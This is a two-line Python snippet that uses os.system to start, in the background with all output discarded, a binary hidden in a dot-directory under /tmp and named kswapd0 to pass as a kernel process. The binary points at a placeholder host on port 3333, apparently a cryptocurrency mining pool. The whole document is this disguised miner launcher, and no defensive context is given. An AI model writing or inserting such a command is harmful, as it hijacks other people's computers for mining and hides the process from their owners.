import os

os.system("nohup /tmp/.X11-cache/kswapd0 -o pool.example.invalid:3333 >/dev/null 2>&1 &")
